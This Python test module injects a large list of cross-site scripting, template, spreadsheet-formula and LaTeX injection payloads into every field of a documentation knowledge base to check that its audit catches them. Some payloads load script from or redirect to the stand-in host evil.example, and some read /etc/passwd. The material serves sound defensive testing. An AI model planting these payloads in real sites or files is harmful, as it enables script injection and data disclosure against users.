"""Script payloads, the places that hold text, and a base that holds every payload in every place that lets it in."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Protocol

EVIL = "evil.example"


class Base(Protocol):
    """A knowledge base on disk that can be written and checked, as `conftest.py` makes them."""

    root: Path

    def write(self, path: str, content: str | bytes) -> None:
        """Write a file."""

    def append(self, path: str, text: str) -> int:
        """Add to a file."""

    def replace(self, path: str, old: str, new: str) -> int:
        """Replace a text that stands once in a file."""

    def findings(self) -> list[str]:
        """`CODE path:line` of what is found."""


PAYLOADS = (
    # elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<script type=module>import '//{EVIL}/x.js'</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) //",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    "<image src=x onerror=alert(1)>",
    f"<img src=//{EVIL}/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    f"<form action='//{EVIL}'><input name=q></form>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<base href='//{EVIL}/'>",
    f"<link rel=stylesheet href='//{EVIL}/x.css'>",
    f"<style>@import '//{EVIL}/x.css';</style>",
    "<div style='animation-name:x' onanimationstart=alert(1)>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<x onpointerenter=alert(1)>hover</x>",
    # breaking out of attributes
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"/><svg onload=alert(1)>',
    "` onmouseover=`alert(1)",
    "x onerror=alert(1)",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    f"![x](//{EVIL}/pixel.png)",
    "<javascript:alert(1)>",
    "![x](x){: onerror=alert(1) }",
    "{: onclick=alert(1) }",
    "{onclick=alert(1)}",
    "{: style=background:url(//evil.example/x) }",
    ") <img src=x onerror=alert(1)> (",
    "](x) <img src=x onerror=alert(1)>",
    "`` <img src=x onerror=alert(1)> ``` <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |",
    # templates, addresses, entities
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '../../../../etc/passwd' %}",
    "${alert(1)}",
    "javascript:alert(1)",
    "java\u00a0script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    f"//{EVIL}/x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # spreadsheets and documents
    '=HYPERLINK("//evil.example","x")',
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\\write18{touch x}",
    "\\input{/etc/passwd}",
    "\\href{javascript:alert(1)}{x}",
    "ER  - ",
)

LITTER = re.compile(r"\]\(|\[@|\[\^|\{[:#.] ?[\w.-]")
"""What the audit takes for leftover markup wherever it is shown as text; such a site is not published at all."""

QUIET = tuple(p for p in PAYLOADS if not LITTER.search(p))
PLAIN = tuple(p for p in QUIET if not {"\\", "`"} & set(p))
UNQUOTED = tuple(p for p in QUIET if not {"{", "'", "`"} & set(p))

IN_MARKDOWN: dict[str, Callable[[str], str]] = {
    "text": lambda p: p,
    "emphasis": lambda p: f"*{p}*",
    "heading": lambda p: f"## {p}",
    "heading-id": lambda p: f"## A {{#{p}}}",
    "heading-class": lambda p: f"## A {{ .{p} }}",
    "heading-attribute": lambda p: f'## A {{ data-x="{p}" }}',
    "attribute-list": lambda p: f"Text.\n{{: {p} }}",
    "attribute-value": lambda p: f"Text.\n{{: data-x='{p}' }}",
    "link-text": lambda p: f"[{p}](https://example.org)",
    "link-target": lambda p: f"[x]({p})",
    "link-target-in-angles": lambda p: f"[x](<{p}>)",
    "link-title": lambda p: f'[x](https://example.org "{p}")',
    "link-path": lambda p: f"[x](https://example.org/{p})",
    "link-query": lambda p: f"[x](../method.md?q={p})",
    "link-anchor": lambda p: f"[x](../method.md#{p})",
    "autolink": lambda p: f"<https://example.org/{p}>",
    "reference-target": lambda p: f"[x][y]\n\n[y]: {p}",
    "reference-title": lambda p: f'[x][z]\n\n[z]: https://example.org "{p}"',
    "image-text": lambda p: f"![{p}](https://example.org/a.png)",
    "image-target": lambda p: f"![x]({p})",
    "code": lambda p: f"`{p}`",
    "code-block": lambda p: f"```\n{p}\n```",
    "code-language": lambda p: f"```{p}\ncode\n```",
    "table-cell": lambda p: f"| a |\n|---|\n| {p} |",
    "list-item": lambda p: f"- {p}",
    "quotation": lambda p: f"> {p}",
    "footnote": lambda p: f"Text[^n].\n\n[^n]: {p}",
    "footnote-label": lambda p: f"Text[^{p}].\n\n[^{p}]: a",
    "abbreviation": lambda p: f"The HTML.\n\n*[HTML]: {p}",
    "comment": lambda p: f"<!-- {p} -->",
    "citation-prefix": lambda p: f"Text [{p} @kovac-where].",
    "citation-key": lambda p: f"Text [@{p}].",
    "locator": lambda p: f"Text [@kovac-where, {p}].",
    "escaped": lambda p: re.sub(r"([^\w\s])", r"\\\1", p),
}

IN_ENTRIES = {
    "title": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n} {p}}}}}",
    "author": "@book{{{key}, author = {{{{{p}}}}}, title = {{T {n}}}}}",
    "publisher": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, publisher = {{{p}}}}}",
    "journal": "@article{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, journal = {{{p}}}}}",
    "note": "@misc{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, note = {{{p}}}}}",
    "abstract": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, abstract = {{{p}}}}}",
    "keywords": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, keywords = {{{p}}}}}",
    "url": "@online{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, url = {{{p}}}}}",
    "url-end": "@online{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, url = {{https://example.org/{p}}}}}",
    "doi": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, doi = {{10.5555/{p}}}}}",
    "pages": "@article{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, journal = {{J}}, pages = {{{p}}}}}",
    "file": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, file = {{{p}}}}}",
    "options": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, options = {{{p}}}}}",
    "own-field": "@book{{{key}, author = {{Osei, K.}}, title = {{T {n}}}, mine = {{{p}}}}}",
}

NOTE = {
    "kind": "unit", "where": "marsh-lending, tbl. 1", "claims": ["marsh-lending/deposit-barrier"], "stated": "a",
    "should_be": "b", "how_known": "papers", "explanation": "c", "confidence": "certain",
}  # fmt: skip
EVENT = {"date": "2019-05", "title": "a", "claims": ["marsh-lending/opening"]}
COMPUTATION = {
    "where": "marsh-lending, sec. 2, para. 1, sent. 1-3", "says": "a", "stated": "9", "unit": "b", "formula": "31 - 22",
}  # fmt: skip

IN_RECORDS = (
    ("notes", NOTE, ("stated", "should_be", "explanation", "names", "kind", "where", "confidence")),
    ("events", EVENT, ("title", "date", "claims")),
    ("computations", COMPUTATION, ("says", "unit", "formula", "because", "stated")),
    ("places", {"name": "a"}, ("name", "aliases", "kind")),
    ("actors", {"name": "a"}, ("name", "aliases", "kind")),
)

REFUSED_META = ("tags", "template", "icon", "hide", "search")
"""What themes read at the head of a page, and no page here may say."""

EVERYWHERE = (
    "paper-vantage", "paper-affiliation", "paper-date", "claim-title", "claim-text", "theme-title", "theme-alias",
    "actor-name", "actor-alias", "place-name", "section-label", "table-title", "table-source", "table-remark",
    "column-title", "column-unit", "chart-title", "table-cell-of-data",
)  # fmt: skip
"""Places whose text stands on many pages; all payloads that may stand there do so at once."""

PLACES = (
    *IN_MARKDOWN,
    *(f"page-{name}" for name in ("title", "description", *REFUSED_META)),
    *(f"entry-{name}" for name in IN_ENTRIES),
    *(f"{record}-{name}" for record, _, fields in IN_RECORDS for name in fields),
    *EVERYWHERE,
)


@dataclass(frozen=True)
class Poisoned:
    """A site without its policy that holds every payload in every place that let it in, and how many those were."""

    site: Path
    tried: int
    refused: int


def yaml(value: object) -> str:
    """YAML on one line."""
    return json.dumps(value, ensure_ascii=False)


@dataclass
class Items:
    """Things put into one file, each on lines of its own; `each` is how many payloads one of them holds."""

    path: str
    above: str
    items: list[str]
    below: str
    each: int

    @property
    def text(self) -> str:
        """The whole file."""
        return self.above + "".join(self.items) + self.below

    def without(self, lines: set[int]) -> list[str]:
        """The items on none of these lines of the file."""
        kept = []
        line = self.above.count("\n") + 1
        for item in self.items:
            following = line + item.count("\n")
            if lines.isdisjoint(range(line, following)):
                kept.append(item)
            line = following
        return kept


class Poisoner:
    """Puts payloads into a base, and takes out again what a check finds."""

    def __init__(self, base: Base) -> None:
        self.base = base
        self.files: dict[str, Items] = {}
        self.tried = self.refused = 0

    def put(self, path: str, items: list[str], above: str = "", below: str = "", each: int = 1) -> None:
        """Items at the end of a file, or in a new one between two texts."""
        target = self.base.root / path
        above = above or (target.read_text(encoding="utf-8") if target.is_file() else "")
        self.files[path] = Items(path, above, items, below, each)
        self.tried += len(items) * each

    def settle(self) -> None:
        """Write everything, and take out what is found, until nothing is."""
        for file in self.files.values():
            self.base.write(file.path, file.text)
        for _ in range(10):
            found = [finding.split(" ", 1)[1].rpartition(":") for finding in self.base.findings()]
            lines: dict[str, set[int]] = {}
            for path, _, line in found:
                lines.setdefault(path, set()).add(int(line))
            if not lines:
                return
            for path, numbers in lines.items():
                file = self.files[path]
                kept = file.without(numbers)
                assert len(kept) < len(file.items), f"{path}: findings on {numbers}, where no payload stands"
                self.refused += (len(file.items) - len(kept)) * file.each
                file.items = kept
                self.base.write(path, file.text)
        raise AssertionError("findings remain")


def spoiled_records(name: str, record: dict[str, object], fields: tuple[str, ...]) -> list[str]:
    """A record for each payload in each of the fields, a line each."""
    is_list = name not in ("places", "actors")
    lines = []
    for field in fields:
        for n, payload in enumerate(PLAIN):
            spoiled = record | {field: payload if is_list else f"{payload} {n} {name}"}
            if field in ("names", "claims", "aliases"):
                spoiled[field] = [spoiled[field]]
            if not is_list and field != "name":
                spoiled["name"] = f"{field} {n} {name}"
            id_ = f"x-{name}-{field.replace('_', '-')}-{n}"
            lines.append(f"- {yaml({'id': id_} | spoiled)}\n" if is_list else f"{id_}: {yaml(spoiled)}\n")
    return lines


SHOWN = (
    '\\" onmouseover=\\"alert(x)',
    "' autofocus onfocus='alert(x)",
    "`<img src=x onerror=alert(x)>`",
    "`</script><script>alert(x)</script>`",
    "&lt;img src=x onerror=alert(x)&gt;",
    "javascript:alert(x)",
    "{{ config }} ${alert(x)}",
)
"""Payloads that a page may hold; a claim with one has to be confirmed again, and its figures have to be its paper's."""

MARSH = "docs/papers/marsh-lending.md"


def poison_what_is_shown_everywhere(base: Base) -> int:
    """Titles and texts of claims, what a paper says of itself, names of themes and terms, labels, a table; returns how
    many payloads were put into how many places, multiplied."""
    html = " ".join(p for p in QUIET if p.startswith("<") and "=" in p)
    breaking = " ".join(p for p in QUIET if p.startswith(('"', "'", "`", "]", ")", "[", "!", "{", "-->", "</")))
    formulas = " ".join(p for p in QUIET if p.startswith(("=", "@", "+", "-1", "\\")))
    base.replace(MARSH, "vantage: Two", f'vantage: {yaml(html + breaking)[:-1]}"\n# Two')
    base.replace(
        MARSH, "  - Institute for Invented", f"  - {yaml(html)}\n  - {yaml(breaking)}\n  - Institute for Invented"
    )
    base.replace(MARSH, "dated: 2020,", f"dated: {yaml(html + formulas)}\n# 2020,")
    base.replace(MARSH, "### Lending works where", f"### {' '.join(SHOWN[:-1])} where")
    base.replace(MARSH, "### Fewer people in Wexley", f"### =cmd {SHOWN[2]} people in Wexley")
    base.replace(MARSH, "The council began lending", f"The {' '.join(SHOWN)} council began lending")
    theme = "docs/themes/access.md"
    base.replace(theme, "title: Access to bicycles", f"title: {yaml(html)}")
    base.replace(theme, "  - bicycle access", f"  - {yaml(breaking)}\n  - {yaml(formulas)}")
    base.replace("docs/themes/repair.md", "title: Repair", f"title: {yaml(breaking + html)}")
    base.replace("sources/actors.yml", "name: Aldo Renn", f"name: {yaml(html)}")
    base.replace("sources/actors.yml", "[Renn, Councillor Renn]", f"[Renn, Councillor Renn, {yaml(breaking)}]")
    base.replace("sources/places.yml", "name: Wexley", f"name: {yaml(html)}\n  # Wexley")
    base.replace("sources/marsh-lending/outline.yml", '"3": "Obstacles"', f'"3": {yaml(html + breaking)}')
    base.append(
        "sources/tables.yml",
        "- "
        + yaml(
            {
                "id": "x-table",
                "title": html,
                "where": "marsh-lending, tbl. 1",
                "source": breaking,
                "remark": html,
                "columns": [
                    {"name": "model", "title": breaking, "type": "string"},
                    {"name": "loans", "title": html, "type": "integer", "unit": breaking},
                ],
                "charts": [{"form": "bars", "title": html, "columns": ["loans"]}],
            }
        )
        + "\n",
    )
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([["model", "loans"], *([payload, "868"] for payload in QUIET)])
    base.write("sources/tables/x-table.csv", out.getvalue())
    return len(QUIET) * (len(EVERYWHERE) - 2) + 2 * len(SHOWN)


def poison(base: Base) -> Poisoner:
    """Put every payload into every place, and take out again what the checks find; what is left can be built."""
    poisoner = Poisoner(base)
    for place, wrap in IN_MARKDOWN.items():
        payloads = UNQUOTED if place in ("attribute-value", "footnote-label") else PAYLOADS
        items = [f"## Case {n}\n\n{wrap(payload)}\n\n" for n, payload in enumerate(payloads)]
        poisoner.put(f"docs/decisions/{place}.md", items, f"# {place}\n\n")
    for n, payload in enumerate(PLAIN):
        items = [f"{name}: {yaml(f'{payload} {n}')}\n" for name in ("title", "description")]
        poisoner.put(f"docs/decisions/title-{n}.md", items, "---\n", "---\n\nText.\n")
    for name in REFUSED_META:
        items = [f"{name}: {yaml(list(PLAIN))}\n"]
        poisoner.put(f"docs/decisions/{name}.md", items, "---\n", f"---\n\n# {name}\n", each=len(PLAIN))
    entries = {
        f"{field}-{n}": line.format(key=f"{field}-{n}", n=f"{field} {n}", p=payload) + "\n"
        for field, line in IN_ENTRIES.items()
        for n, payload in enumerate(QUIET)
    }
    poisoner.put("bibliography.bib", list(entries.values()))
    poisoner.put("docs/decisions/entries.md", [f"Cited [@{key}].\n\n" for key in entries], "# Entries\n\n", each=0)
    for name, record, fields in IN_RECORDS:
        poisoner.put(f"sources/{name}.yml", spoiled_records(name, record, fields))
    poisoner.settle()
    poisoner.tried += poison_what_is_shown_everywhere(base)
    return poisoner


def active_in_word(path: Path) -> list[str]:
    """What a Word document holds that could run or fetch: macros, objects, fields, links to other places than the web."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", errors="replace")
            if any(part in name.lower() for part in ("vba", "embeddings", "activex")):
                found.append(name)
            for relation in re.findall(r"<Relationship\b[^>]*>", text):
                target = re.search(r'Target="([^"]*)"', relation)
                if 'TargetMode="External"' in relation and not (target and re.match(r"https?://|mailto:", target[1])):
                    found.append(relation)
            fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", text) + re.findall(
                r'<w:fldSimple[^>]*w:instr="([^"]*)"', text
            )
            found += [field for field in fields if re.search(r"DDE|INCLUDE|IMPORT|LINK\b(?!\s+\\)|script", field)]
    return found
